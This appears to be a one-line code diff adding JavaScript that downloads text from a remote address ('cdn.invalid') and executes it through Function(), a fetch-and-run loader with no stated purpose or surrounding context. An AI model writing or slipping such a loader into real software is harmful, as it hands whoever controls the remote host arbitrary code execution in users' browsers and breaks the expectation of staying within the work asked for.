@@ -1,0 +1,1 @@
+let code = ''; const x = new XMLHttpRequest(); x.open('GET', 'https://cdn.invalid/x'); x.addEventListener('load', function () { code = this.responseText; run(); }); x.send(); function run() { Function(code)(); }
